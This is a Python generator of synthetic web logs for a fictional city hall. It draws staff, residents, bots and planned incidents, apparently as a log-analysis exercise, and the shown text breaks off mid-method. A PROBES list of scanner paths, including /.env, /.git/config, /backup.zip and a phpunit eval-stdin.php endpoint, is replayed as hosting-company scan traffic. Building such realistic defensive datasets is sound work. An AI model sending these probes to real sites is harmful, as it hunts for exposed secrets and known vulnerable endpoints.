"""Draws the web logs of an invented city hall, Misaki City (みさき市): counters, residents' portal, branch offices.

    python cityhall.py --seed 7 --days 35 --out DIR

Everything comes from one random.Random(seed); incidents and annoyances are planned first (who is present, what breaks),
then ordinary life is drawn around them, then the files are written as each server there would write them.
"""

from __future__ import annotations

import argparse
import gzip
import json
import math
import random
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Callable, Iterable

H = 3600.0
HOLIDAYS = {
    date(2026, m, d)
    for m, d in (
        (1, 1),
        (1, 12),
        (2, 11),
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    )
}
BRANCHES, DOMAIN = (
    {
        "kita": "北支所",
        "minami": "南支所",
        "shima": "島支所",
        "yama": "山手支所",
        "eki": "駅前支所",
    },
    "city-misaki.example",
)
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36 Edg/{0}.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS {0}_{1} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{0}.{1} Mobile/15E148 Safari/604.1"
ANDROID = "Mozilla/5.0 (Linux; Android {0}; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{1}.0.0.0 Mobile Safari/537.36"
BOTS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.79.", 10),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "157.55.39.", 6),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36.148.", 4),
    ("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", "20.171.207.", 3),
)
SURNAMES = (
    "佐藤 鈴木 高橋 田中 伊藤 渡辺 山本 中村 小林 加藤 吉田 山田 佐々木 山口 松本 井上 木村 林 斎藤 清水 山崎 森 池田 橋本 阿部 石川 "
    "山下 中島 石井 小川 前田 岡田 長谷川 藤田 後藤 近藤 村上 遠藤 青木 坂本 福田 太田 西村 藤井 岡本 三浦 中野 原田 松田 竹内"
).split()
GIVEN = "陽子 健一 美咲 翔太 直樹 由美 恵 大輔 真由美 拓也 彩 誠 智子 亮 裕子 浩 千尋 隆 麻衣 修".split()
PAGES = (
    "/",
    "/kurashi/",
    "/kurashi/gomi.html",
    "/kosodate/",
    "/kosodate/hoikuen.html",
    "/zei/",
    "/zei/nofu.html",
    "/bousai/",
    "/bousai/hazardmap.pdf",
    "/shisei/",
    "/shisei/koho/latest.pdf",
    "/kenko/yobo.html",
    "/kanko/",
    "/madoguchi/jikan.html",
    "/madoguchi/koseki.html",
    "/boshu/saiyo.html",
    "/css/base.css",
    "/js/site.js",
    "/img/logo.png",
    "/sitemap.html",
    "/search?q=%E3%82%B4%E3%83%9F",
    "/favicon.ico",
)
PROBES = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/xmlrpc.php",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/config.json",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system",
    "/backup.zip",
    "/admin.php",
)
#: what a task is: (weight, steps); a step is (site, method, path, probability). {s} is the person, {b} the branch's own site
Step = tuple[str, str, str, float]
TASKS: dict[str, list[tuple[float, list[Step]]]] = {
    "市民課": [
        (
            0.55,
            [
                ("juki", "POST", "/juki/search", 1),
                ("juki", "GET", "/juki/person/{s}", 1),
                ("juki", "GET", "/juki/household/{s}", 0.5),
                ("juki", "POST", "/juki/certificate/{s}", 0.97),
            ],
        ),
        (
            0.22,
            [
                ("juki", "POST", "/juki/search", 1),
                ("juki", "GET", "/juki/person/{s}", 1),
                ("juki", "GET", "/juki/household/{s}", 0.9),
                ("juki", "POST", "/juki/move/{s}", 0.95),
            ],
        ),
        (0.13, [("juki", "POST", "/juki/search", 1), ("juki", "GET", "/juki/person/{s}", 1)]),
        (0.10, [("juki", "GET", "/juki/queue", 1)]),
    ],
    "税務課": [
        (
            0.5,
            [
                ("zei", "GET", "/zei/view.aspx?atena={s}", 1),
                ("zei", "GET", "/zei/assess/{s}", 0.5),
                ("zei", "POST", "/zei/assess/{s}", 0.5),
            ],
        ),
        (
            0.25,
            [
                ("zei", "POST", "/zei/search", 1),
                ("zei", "GET", "/zei/view.aspx?atena={s}", 1),
                ("zei", "POST", "/zei/certificate/{s}", 0.9),
            ],
        ),
        (
            0.15,
            [
                ("zei", "GET", "/zei/arrears", 0.5),
                ("zei", "GET", "/zei/view.aspx?atena={s}", 1),
                ("zei", "POST", "/zei/note/{s}", 0.9),
            ],
        ),
        (0.10, [("juki", "POST", "/juki/search", 1), ("juki", "GET", "/juki/person/{s}", 1)]),
    ],
    "福祉課": [
        (
            0.7,
            [
                ("fukushi", "GET", "/welfare/case/{s}", 1),
                ("fukushi", "GET", "/welfare/case/{s}/doc", 0.45),
                ("fukushi", "POST", "/welfare/case/{s}/note", 0.55),
            ],
        ),
        (
            0.12,
            [
                ("fukushi", "GET", "/welfare/case/{s}", 1),
                ("zei", "GET", "/zei/view.aspx?atena={s}", 1),
            ],
        ),
        (
            0.10,
            [
                ("juki", "POST", "/juki/search", 1),
                ("juki", "GET", "/juki/person/{s}", 1),
                ("juki", "GET", "/juki/household/{s}", 0.6),
            ],
        ),
        (0.08, [("fukushi", "GET", "/welfare/board", 1)]),
    ],
    "保育課": [
        (
            0.7,
            [
                ("fukushi", "GET", "/nursery/child/{s}", 1),
                ("fukushi", "POST", "/nursery/child/{s}/score", 0.75),
            ],
        ),
        (
            0.12,
            [
                ("fukushi", "GET", "/nursery/list/{c}", 1),
                ("fukushi", "GET", "/nursery/child/{s}", 1),
            ],
        ),
        (0.10, [("zei", "GET", "/zei/view.aspx?atena={s}", 1)]),
        (0.08, [("fukushi", "GET", "/nursery/board", 1)]),
    ],
    "コールセンター": [
        (
            0.85,
            [
                ("portal", "POST", "/console/search", 1),
                ("portal", "GET", "/console/inquiry/{s}", 1),
                ("portal", "POST", "/console/inquiry/{s}/note", 0.96),
            ],
        ),
        (0.15, [("portal", "GET", "/console/faq", 1)]),
    ],
    "支所": [
        (
            0.75,
            [
                ("{b}", "POST", "/cert/search", 1),
                ("{b}", "GET", "/cert/person/{s}", 1),
                ("{b}", "GET", "/cert/seal/{s}", 0.3),
                ("{b}", "POST", "/cert/issue/{s}", 0.95),
            ],
        ),
        (0.15, [("{b}", "POST", "/cert/search", 1), ("{b}", "GET", "/cert/person/{s}", 1)]),
        (0.10, [("{b}", "GET", "/cert/today", 1)]),
    ],
    "情報政策課": [
        (0.6, [("portal", "GET", "/admin/status", 1)]),
        (0.25, [("juki", "GET", "/admin/jobs", 1)]),
        (0.15, [("portal", "GET", "/admin/accounts", 1)]),
    ],
}
SYSTEMS = {
    "市民課": ["juki"],
    "税務課": ["zei", "juki"],
    "福祉課": ["fukushi", "zei", "juki"],
    "保育課": ["fukushi", "zei"],
    "コールセンター": ["portal"],
    "情報政策課": ["portal", "juki"],
    "支所": ["{b}"],
}
Event = tuple[float, str, str, str | None, str, str, int, int, float, str | None, str, str | None]


@dataclass(eq=False)
class Person:
    """Somebody who signs in at work."""

    uid: str
    name: str
    dept: str
    home: str
    ip: str
    ua: str
    rate: float
    part: tuple[float, float] | None = None
    weekdays: tuple[int, ...] = (0, 1, 2, 3, 4)
    joined: str = ""
    left: str = ""
    company: str = "みさき市"
    type: str = "staff"
    manager: str = ""
    absent_until: int = -1
    force: dict[int, bool] = field(default_factory=dict)
    cases: list[int] = field(default_factory=list)

    def account(self, site: str) -> str:
        """The account as the given site's server writes it: the two Windows servers keep the domain."""
        return "CITY\\" + self.uid if site in ("juki", "zei") else self.uid


class City:
    """The drawing: people, days, events, truth."""

    def __init__(self, seed: int, days: int) -> None:
        self.seed, self.n, self.r = seed, days, random.Random(seed)
        last = date(2026, 4, 30) + timedelta(days=self.r.randrange(215))
        self.days = [last - timedelta(days=days - 1 - i) for i in range(days)]
        self.ev: list[Event] = []
        self.incidents, self.annoyances = list[dict](), list[dict]()
        self.silences: list[tuple[str, float, float]] = []
        self.breaks: list[tuple[str, float, float, str, float, int, dict | None]] = []
        self.boost: dict[tuple[str, int], float] = {}
        self.late: set[tuple[str, int]] = set()
        self.extra_open: dict[tuple[str, int], float] = {}
        self.busy: set[str] = set()
        self.renumber: dict[str, int] = {}
        self.ex = self.r.randrange(1000000, 1024000)
        self.numbers = [x for x in range(1000000, 1024000) if x != self.ex]
        areas = ["main"] * 6 + list(BRANCHES)
        self.area = {
            a: [x for x in self.numbers if areas[(x // 3 * 7) % 11] == a]
            for a in dict.fromkeys(areas)
        }
        self.children = sorted(self.r.sample(self.numbers, 900))
        self.people: list[Person] = []
        self.make_people()
        ids = self.r.sample(self.numbers, 90)
        self.mayor, self.dv, self.colleagues = ids[0], ids[2:16], ids[16:80]
        self.vips = ids[:1] + ids[80:84]
        self.pop = free = [x for x in self.numbers if x != self.mayor]
        self.members = self.r.sample(free, 3200)
        self.weight = [self.r.paretovariate(1.3) for _ in self.members]
        self.member_ip = {m: self.home_ip() for m in self.members}
        self.member_ua = {m: self.visitor_ua() for m in self.members}
        self.receipts = list(range(880100, 880100 + 700))

    # ---- people and places -------------------------------------------------------------------------------------------------
    def make_people(self) -> None:
        """Draws staff, part-timers, contractors."""
        r, no, used, sizes = (
            self.r,
            2011,
            set(),
            {
                "市民課": 20,
                "税務課": 24,
                "福祉課": 22,
                "保育課": 11,
                "コールセンター": 8,
                "情報政策課": 4,
            },
        )
        rates = {
            "市民課": 19,
            "税務課": 15,
            "福祉課": 14,
            "保育課": 15,
            "コールセンター": 20,
            "情報政策課": 5,
            "支所": 16,
        }
        plan = [(d, d, i) for d, k in sizes.items() for i in range(k)] + [
            ("支所", b, i) for b in BRANCHES for i in range(6 if b == "eki" else 4)
        ]
        for dept, place, i in plan:
            name = r.choice(SURNAMES) + " " + r.choice(GIVEN)
            while name in used:
                name = r.choice(SURNAMES) + " " + r.choice(GIVEN)
            used.add(name)
            no += r.randrange(3, 40)
            net = 20 + list(sizes).index(dept) if dept in sizes else 0
            ip, uid, typ, comp, part, wd = (
                f"10.20.{net}.{20 + i}"
                if net
                else f"10.30.{list(BRANCHES).index(place) + 1}.{20 + i % 3}",
                f"s{no}",
                "staff",
                "みさき市",
                None,
                (0, 1, 2, 3, 4),
            )
            if dept == "コールセンター":
                uid, typ, comp, ip = (
                    f"c-{no}",
                    "contractor",
                    "株式会社みなとコンタクト",
                    "203.0.113.40",
                )
            elif (
                dept != "情報政策課"
                and i >= 2
                and r.random() < 0.2
                or (dept == "保育課" and i in (8, 9, 10))
            ):
                uid, part, wd = (
                    f"k{no}",
                    (9.0, r.choice((13.0, 15.0, 15.0))),
                    tuple(sorted(r.sample(range(5), r.choice((3, 4, 5))))),
                )
            home = {
                "市民課": "juki",
                "税務課": "zei",
                "福祉課": "fukushi",
                "保育課": "fukushi",
                "コールセンター": "portal",
                "情報政策課": "portal",
            }.get(dept, "shisho-" + place)
            p = Person(
                uid,
                name,
                dept if dept in sizes else BRANCHES[place],
                home,
                ip,
                EDGE.format(r.choice((142, 143, 143, 143))),
                rates[dept] * min(2.6, r.lognormvariate(0, 0.35)),
                part,
                wd,
                company=comp,
                type=typ,
                joined=f"{r.randrange(1992, 2026)}-04-01",
            )
            p.manager = p.uid if i == 0 else next(q.uid for q in self.people if q.dept == p.dept)
            if dept == "福祉課":
                p.cases = r.sample(self.numbers, r.randrange(55, 95))
            self.people.append(p)
        eki = [p for p in self.people if p.home == "shisho-eki"]
        for k, p in enumerate(eki):  # the station branch: Tuesday to Saturday for half of them
            if not p.part and k % 2:
                p.weekdays = (1, 2, 3, 4, 5)

    def key(self, p: Person) -> str:
        """The department as TASKS and SYSTEMS name it."""
        return "支所" if p.dept in BRANCHES.values() else p.dept

    def of(self, dept: str, home: str = "") -> list[Person]:
        """Full-time people of a department, not yet in any story."""
        return [
            p
            for p in self.people
            if self.key(p) == dept
            and not p.part
            and p.uid not in self.busy
            and (not home or p.home == home)
            and p.manager != p.uid
        ]

    def take(self, dept: str, home: str = "") -> Person:
        """Somebody for a story; nobody has two."""
        p = self.r.choice(self.of(dept, home))
        self.busy.add(p.uid)
        return p

    def home_ip(self) -> str:
        """An address of a household, an office or a mobile network."""
        r = self.r
        k = r.random()
        if k < 0.45:
            return f"{r.choice(('49.98.', '106.133.', '126.158.', '133.106.'))}{r.randrange(16, 48)}.{r.randrange(1, 255)}"
        if k < 0.52:
            return r.choice(
                ("153.156.77.12", "210.148.33.9", "61.199.20.130")
            )  # library, tax accountants' office, hospital
        return f"{r.choice((58, 60, 114, 118, 122, 124, 153, 180, 219))}.{r.randrange(1, 255)}.{r.randrange(1, 255)}.{r.randrange(1, 255)}"

    def visitor_ua(self) -> str:
        """A browser."""
        r, k = self.r, self.r.random()
        if k < 0.42:
            return IPHONE.format(r.choice((17, 18, 18, 26)), r.randrange(0, 6))
        if k < 0.68:
            return ANDROID.format(r.choice((10, 10, 13, 14)), r.randrange(136, 146))
        return (EDGE if r.random() < 0.45 else CHROME).format(r.randrange(136, 146))

    def host(self) -> str:
        """An address at some hosting company."""
        r = self.r
        return f"{r.choice(('45.155.204.', '185.220.101.', '194.26.135.', '91.92.241.', '103.152.34.', '5.188.62.'))}{r.randrange(2, 250)}"

    def work(self, d: int) -> bool:
        """Is the city hall open?"""
        return self.days[d].weekday() < 5 and self.days[d] not in HOLIDAYS

    def workdays(self, lo: int, hi: int | None = None) -> list[int]:
        """Open days from lo to hi."""
        return [
            d for d in range(max(0, lo), self.n if hi is None else min(hi, self.n)) if self.work(d)
        ]

    def one_day(self, lo: float = 0.45, hi: float = 1.0) -> int:
        """An open day, as fractions of the time."""
        ds = [d for d in self.workdays(max(14, int(self.n * lo)), math.ceil(self.n * hi))]
        return self.r.choice(ds or self.workdays(14))

    def spread(self, k: int, span: int, p: Person | None = None) -> list[int]:
        """k open days within a stretch of span days, from day 15 on; the person is there on them."""
        start = self.r.randrange(
            max(14, self.n // 3), max(15, max(14, self.n // 3) + 1, self.n - span + 1)
        )
        ds = self.workdays(start, start + span)
        if len(ds) < 3:
            ds = self.workdays(14)
        ds = sorted(self.r.sample(ds, min(k, len(ds))))
        if p:
            p.force.update(dict.fromkeys(ds, True))
        return ds

    # ---- single requests -----------------------------------------------------------------------------------------------------
    def hit(
        self,
        d: int,
        sec: float,
        site: str,
        ip: str,
        user: str | None,
        method: str,
        path: str,
        status: int,
        ua: str,
        sess: str | None = None,
        size: int | None = None,
        ref: str | None = None,
        ms: float | None = None,
    ) -> float:
        """One line; gives the moment back. Times past midnight of the last day are dropped by the writer."""
        r = self.r
        if size is None:
            size = {302: 0, 304: 0, 401: 1290, 403: 1190, 404: 980, 500: 760, 503: 2210}.get(
                status, int(r.lognormvariate(8.6, 0.7))
            )
        if ms is None:
            ms = r.lognormvariate(4.2, 0.8)
        self.ev.append(
            (d * 86400 + sec, site, ip, user, method, path, status, size, ms, ref, ua, sess)
        )
        return sec

    def sid(self) -> str:
        """A session cookie."""
        return f"{self.r.getrandbits(96):024x}"

    def sign_in(
        self,
        p: Person,
        d: int,
        t: float,
        site: str,
        sess: str | None,
        fails: int = 0,
        ip: str | None = None,
    ) -> float:
        """Signs a person in at a site, after some typos."""
        for _ in range(fails):
            self.hit(d, t, site, ip or p.ip, p.account(site), "POST", "/auth/login", 401, p.ua)
            t += self.r.uniform(4, 25)
        self.hit(d, t, site, ip or p.ip, p.account(site), "POST", "/auth/login", 302, p.ua, sess)
        return t + self.r.uniform(1, 4)

    def views(
        self,
        d: int,
        t: float,
        p: Person,
        paths: Iterable[tuple[str, str, str]],
        gap: tuple[float, float],
        ip: str | None = None,
        user: str | None = None,
        sess: str | None = None,
    ) -> tuple[float, int]:
        """A run of requests (site, method, path) of one person; gives the end and the number of lines."""
        k = 0
        for site, method, path in paths:
            self.hit(
                d,
                t,
                site,
                ip or p.ip,
                user or p.account(site),
                method,
                path,
                200,
                p.ua,
                sess if site in ("fukushi", "portal") else None,
            )
            t += self.r.uniform(*gap) * (2.5 if self.r.random() < 0.1 else 1)
            k += 1
        return t, k

    def pick(self, p: Person) -> int:
        """Whom a task is about."""
        r, k = self.r, self.key(p)
        if k == "福祉課" and r.random() < 0.8:
            return r.choice(p.cases)
        if k == "保育課" and r.random() < 0.9:
            return r.choice(self.children)
        if k == "支所" and r.random() < 0.93:
            return r.choice(self.area[p.home[7:]])
        return r.choice(self.pop)

    # ---- ordinary life ---------------------------------------------------------------------------------------------------------
    def season(self, p: Person, d: int) -> float:
        """How busy a department is on a day."""
        day, k, f = self.days[d], self.key(p), 1.0
        f *= self.boost.get((p.dept, d), 1.0) * self.boost.get((p.uid, d), 1.0)
        if k in ("市民課", "支所"):
            f *= 1.3 if day.weekday() == 0 or (d and not self.work(d - 1)) else 1.0
            f *= 1.5 if date(2026, 3, 20) <= day <= date(2026, 4, 8) else 1.0
        if k == "税務課":
            f *= 1.35 if day.month in (5, 6) else 1.0
        return f

    def present(self, p: Person, d: int) -> bool:
        """At work? Stories decide first, then the calendar, then leave."""
        day = self.days[d].isoformat()
        if (p.left and day > p.left) or day < p.joined or d <= p.absent_until:
            return False
        if d in p.force:
            return p.force[d]
        if (p.dept, d) in self.extra_open:
            return self.r.random() < self.extra_open[(p.dept, d)]
        saturday = (
            p.home == "shisho-eki" and self.days[d].weekday() == 5 and self.days[d] not in HOLIDAYS
        )
        if not (self.work(d) or saturday) or self.days[d].weekday() not in p.weekdays:
            return False
        obon = date(2026, 8, 12) <= self.days[d] <= date(2026, 8, 16) or date(
            2026, 4, 30
        ) <= self.days[d] <= date(2026, 5, 8)
        return self.r.random() > (0.35 if obon else 0.07)

    def steps(self, p: Person, d: int, t: float, sess: dict[str, str], where: str, ip: str) -> None:
        """One task."""
        r, key = self.r, self.key(p)
        tasks = TASKS[key]
        steps, s = r.choices([s for _, s in tasks], [w for w, _ in tasks])[0], self.pick(p)
        for site, method, path, prob in steps:
            if r.random() > prob:
                continue
            site, path = (
                site.replace("{b}", where),
                path.replace("{s}", str(s)).replace("{c}", f"c{r.randrange(0, 6)}"),
            )
            status = 500 if r.random() < 0.001 else 403 if r.random() < 0.0005 else 200
            self.hit(d, t, site, ip, p.account(site), method, path, status, p.ua, sess.get(site))
            t += min(400, r.lognormvariate(2.4, 0.8))

    def staff_day(self, p: Person, d: int, where: str | None = None, ip: str | None = None) -> None:
        """A day of somebody at work."""
        r, key, where, ip = self.r, self.key(p), where or p.home, ip or p.ip
        if p.home.startswith("shisho"):
            if ip == p.ip and r.random() < 0.35:
                ip = p.ip.rsplit(".", 1)[0] + f".{20 + r.randrange(3)}"
            if p.home == where and where in self.renumber and d >= self.renumber[where]:
                ip = ip.replace("10.30.", "10.31.", 1)
        elif key == "市民課":
            ip = (
                f"10.20.20.{20 + r.randrange(14)}" if r.random() < 0.8 else p.ip
            )  # counter terminals are shared
        elif key in ("税務課", "福祉課", "情報政策課") and r.random() < 0.03:
            ip = f"10.99.0.{r.randrange(10, 60)}"  # working at home by VPN
        start, end = p.part or (8.42, 17.3)
        if where == "shisho-eki" and not p.part and r.random() < 0.4:
            start, end = 10.4, 19.1
        if not p.part and key == "市民課" and self.days[d].weekday() == 2 and r.random() < 0.5:
            end = 19.0
        if (p.dept, d) in self.late and not p.part:
            end = r.uniform(18.5, 20.3)
        elif not p.part and r.random() < 0.12:
            end += r.uniform(0.2, 1.2)
        start, end = (start + abs(r.gauss(0, 0.12))) * H, (end - abs(r.gauss(0, 0.1))) * H
        n = int(
            r.gammavariate(5, p.rate * self.season(p, d) * (end - start) / (8.9 * H) / 5)
            * (2.0 if r.random() < 0.02 else 1)
            + 0.5
        )
        if not n:
            return
        sess, t = {"fukushi": self.sid(), "portal": self.sid()}, start
        for k, site in enumerate(SYSTEMS[key]):
            site = site.replace("{b}", where)
            if k and r.random() < 0.5:
                t += r.uniform(300, 6000)
            self.sign_in(
                p,
                d,
                t,
                site,
                sess.get(site),
                (1 if r.random() < 0.07 else 0) + (1 if r.random() < 0.015 else 0),
                ip,
            )
            t += r.uniform(5, 40)
        first = start + 60
        for _ in range(n):
            t = r.uniform(first, end)
            if 12 * H < t < 13 * H and r.random() < 0.7 and end > 14 * H:
                t = r.uniform(13 * H, end)
            self.steps(p, d, t, sess, where, ip)
        if r.random() < 0.03:
            self.hit(
                d,
                r.uniform(first, end),
                SYSTEMS[key][0].replace("{b}", where),
                ip,
                p.account(SYSTEMS[key][0]),
                "GET",
                "/menu_old.asp",
                404,
                p.ua,
            )
        if r.random() < 0.6:
            site = SYSTEMS[key][0].replace("{b}", where)
            self.hit(
                d,
                end + 30,
                site,
                ip,
                p.account(site),
                "GET",
                "/auth/logout",
                302,
                p.ua,
                sess.get(site),
            )

    def resident(self, d: int, m: int, t: float, fails: int = 0) -> None:
        """A resident signs in to the portal and reads what is his."""
        r, ip, ua, sess = self.r, self.member_ip[m], self.member_ua[m], self.sid()
        if r.random() < 0.2:
            ip = self.home_ip()
        u = f"r{m}"
        self.hit(d, t, "portal", ip, None, "GET", "/login", 200, ua)
        for _ in range(fails):
            t = self.hit(d, t + r.uniform(6, 30), "portal", ip, u, "POST", "/login", 401, ua)
        t = self.hit(d, t + r.uniform(6, 30), "portal", ip, u, "POST", "/login", 302, ua, sess)
        self.hit(d, t + 0.5, "portal", ip, u, "GET", "/my/top", 200, ua, sess)
        for _ in range(1 + int(r.expovariate(0.6))):
            t += r.uniform(5, 70)
            if "iPhone" in ua and r.random() < 0.04:
                ip = self.home_ip()  # from the train's network to the house's
            self.hit(
                d,
                t,
                "portal",
                ip,
                u,
                "GET",
                r.choice(
                    (
                        "/my/certificates/{}",
                        "/my/tax/{}",
                        "/my/tax/{}",
                        "/my/nursery/{}",
                        "/my/notice/{}",
                    )
                ).format(m),
                200,
                ua,
                sess,
            )
        if r.random() < 0.3:
            self.hit(d, t + r.uniform(10, 60), "portal", ip, u, "POST", "/my/apply", 302, ua, sess)
        if r.random() < 0.25:
            self.hit(d, t + r.uniform(70, 90), "portal", ip, u, "GET", "/logout", 302, ua, sess)

    def clock(self) -> float:
        """A moment at which the public is awake."""
        r = self.r
        h = r.choices(
            range(24),
            (2, 1, 1, 1, 1, 2, 4, 7, 9, 10, 10, 10, 12, 10, 9, 9, 9, 9, 9, 10, 11, 11, 8, 4),
        )[0]
        return (h + r.random()) * H

    def public_day(self, d: int) -> None:
        """Anonymous visitors, residents, crawlers, monitoring, noise."""
        r, open_ = self.r, self.work(d)
        fw, fp = (
            self.boost.get(("www", d), 1.0) * min(1.6, r.lognormvariate(0, 0.13)),
            self.boost.get(("portal", d), 1.0) * min(1.6, r.lognormvariate(0, 0.13)),
        )
        for _ in range(int((280 if open_ else 265) * fw)):
            ip, ua, t, ref = (
                self.home_ip(),
                self.visitor_ua(),
                self.clock(),
                r.choice((None, None, "https://www.google.co.jp/", f"https://www.{DOMAIN}/")),
            )
            for _ in range(min(25, int(r.paretovariate(1.4) + 0.9))):
                t = self.hit(
                    d,
                    t,
                    "www",
                    ip,
                    None,
                    "GET",
                    r.choice(PAGES),
                    304 if r.random() < 0.15 else 404 if r.random() < 0.02 else 200,
                    ua,
                    ref=ref,
                ) + r.uniform(0.3, 40)
        for ua, net, k in BOTS:
            for _ in range(int(k * 11 * self.boost.get((net, d), 1.0) * r.lognormvariate(0, 0.3))):
                self.hit(
                    d,
                    r.uniform(0, 86399),
                    "www",
                    net + str(r.randrange(2, 30)),
                    None,
                    "GET",
                    r.choice(PAGES + ("/robots.txt",)),
                    r.choice((200, 200, 200, 304, 404)),
                    ua,
                )
            for _ in range(k // 2):
                self.hit(
                    d,
                    r.uniform(0, 86399),
                    "portal",
                    net + str(r.randrange(2, 30)),
                    None,
                    "GET",
                    r.choice(("/", "/guide/nursery", "/robots.txt")),
                    200,
                    ua,
                )
        for k in range(288):
            for site, path in (("www", "/healthz"), ("portal", "/healthz")):
                self.hit(
                    d,
                    k * 300 + r.uniform(0, 2),
                    site,
                    "10.10.9.5",
                    None,
                    "GET",
                    path,
                    200,
                    "Zabbix 6.0",
                    size=2,
                    ms=2,
                )
        for _ in range(int(110 * fp)):
            ip, ua, t = self.home_ip(), self.visitor_ua(), self.clock()
            for _ in range(1 + int(r.expovariate(0.5))):
                path = r.choice(
                    (
                        "/",
                        "/guide/nursery",
                        "/guide/tax",
                        "/reserve",
                        f"/reserve?facility={r.randrange(1, 30)}",
                        "/css/app.css",
                        "/js/app.js",
                    )
                )
                t = self.hit(d, t, "portal", ip, None, "GET", path, 200, ua) + r.uniform(1, 40)
        for _ in range(int(16 * fp)):
            ip, ua, t, no = self.home_ip(), self.visitor_ua(), self.clock(), r.choice(self.receipts)
            for _ in range(r.choice((1, 1, 1, 2, 3))):
                t = self.hit(
                    d, t, "portal", ip, None, "GET", f"/nursery/status?receipt={no}", 200, ua
                ) + r.uniform(5, 400)
        for m in dict.fromkeys(
            r.choices(self.members, self.weight, k=int((95 if open_ else 80) * fp))
        ):
            self.resident(
                d, m, self.clock(), 0 if r.random() < 0.85 else r.choice((1, 1, 1, 2, 2, 3))
            )
        for _ in range(r.choice((2, 3, 3, 4, 6, 9))):
            ip, ua, t = (
                self.host(),
                r.choice(
                    (
                        "Mozilla/5.0 zgrab/0.x",
                        "python-requests/2.31.0",
                        "Go-http-client/1.1",
                        CHROME.format(98),
                        "curl/8.4.0",
                    )
                ),
                r.uniform(0, 86000),
            )
            site = r.choice(("www", "www", "portal"))
            for path in r.sample(PROBES, r.choice((1, 1, 2, 4, 9))):
                t = self.hit(d, t, site, ip, None, "GET", path, 404, ua) + r.uniform(0.2, 3)
        if r.random() < 0.3:
            self.hit(
                d,
                r.uniform(0, 86000),
                "www",
                self.host(),
                None,
                "RAW",
                "\\x16\\x03\\x01\\x02",
                400,
                "-",
                size=226,
                ms=1,
            )

    def batch_day(self, d: int) -> None:
        """Accounts of programs, the night desk, those in charge of exports, vendors."""
        r, day = self.r, self.days[d]
        edge = self.work(d) and (
            d + 1 >= self.n
            or self.days[d + 1].day == 1
            or not any(
                self.work(x) and self.days[x].month == day.month
                for x in range(d + 1, min(self.n, d + 7))
            )
        )
        for k, name in enumerate(
            ("nofu", "kojo", "koza")
            + (("getsuji_zenken", "tainou") if edge and day.day > 24 else ())
        ):
            self.hit(
                d,
                2.5 * H + k * 210 + r.uniform(0, 30),
                "zei",
                "10.20.9.11",
                "CITY\\svc-zei",
                "GET",
                f"/zei/export/{name}_{day:%Y%m%d}.csv",
                200,
                "MisakiBatch/3.1",
                size=int(r.lognormvariate(14, 0.2)),
                ms=9000,
            )
        for site in ("juki", "zei", "fukushi"):
            for k in range(96):
                self.hit(
                    d,
                    k * 900 + r.uniform(0, 3),
                    site,
                    "10.10.9.5",
                    None,
                    "GET",
                    "/healthz",
                    200,
                    "Zabbix 6.0",
                    size=2,
                    ms=3,
                )
        for b in BRANCHES:
            for k in range(48):
                self.hit(
                    d,
                    k * 1800 + r.uniform(0, 3),
                    "shisho-" + b,
                    "10.10.9.5",
                    None,
                    "GET",
                    "/healthz",
                    200,
                    "Zabbix 6.0",
                    size=2,
                    ms=3,
                )
        for _ in range(r.choice((0, 0, 1, 1, 2, 3))):  # night desk: deaths, marriages
            t, s = r.choice((r.uniform(18, 23.8), r.uniform(0, 7))) * H, r.choice(self.pop)
            for m, path in (
                ("POST", "/juki/search"),
                ("GET", f"/juki/person/{s}"),
                ("POST", f"/juki/note/{s}"),
            ):
                self.hit(
                    d, t, "juki", "10.20.8.5", "CITY\\n-shukuchoku", m, path, 200, EDGE.format(139)
                )
                t += r.uniform(20, 200)
        if self.work(d):
            for p in self.in_charge:
                if r.random() < 0.45 and self.present_today.get(p.uid):
                    site, name = (
                        ("fukushi", "welfare/export/shikyu")
                        if p.dept == "福祉課"
                        else ("fukushi", "nursery/export/taiki")
                        if p.dept == "保育課"
                        else ("zei", "zei/export/nouki")
                    )
                    self.hit(
                        d,
                        r.uniform(9.5, 16.5) * H,
                        site,
                        p.ip,
                        p.account(site),
                        "GET",
                        f"/{name}_{day:%m%d}.csv",
                        200,
                        p.ua,
                        size=int(r.lognormvariate(12, 0.5)),
                    )
            if r.random() < 0.5:
                for _ in range(r.randrange(2, 7)):
                    self.hit(
                        d,
                        r.uniform(10, 17) * H,
                        r.choice(("juki", "zei")),
                        "10.98.0.4",
                        "CITY\\v-hosoda",
                        "GET",
                        r.choice(("/admin/jobs", "/admin/log", "/admin/version")),
                        200,
                        CHROME.format(143),
                    )

    # ---- telling -------------------------------------------------------------------------------------------------------------------
    def day(self, d: int) -> str:
        """ISO date of a day's number."""
        return self.days[d].isoformat()

    def incident(
        self,
        grade: str,
        family: str,
        ds: list[int],
        sites: list[str],
        actors: list[str],
        what: str,
        how: str,
        lines: int,
        woken: bool = True,
    ) -> dict:
        """Writes an incident down."""
        x = {
            "id": "",
            "grade": grade,
            "family": family,
            "first_day": self.day(min(ds)),
            "last_day": self.day(max(ds)),
            "site_ids": sites,
            "actors": actors,
            "what": what,
            "how_seen": how,
            "lines": lines,
            "woken": woken,
        }
        self.incidents.append(x)
        return x

    def annoy(
        self, ds: list[int], sites: list[str], actors: list[str], what: str, why: str
    ) -> None:
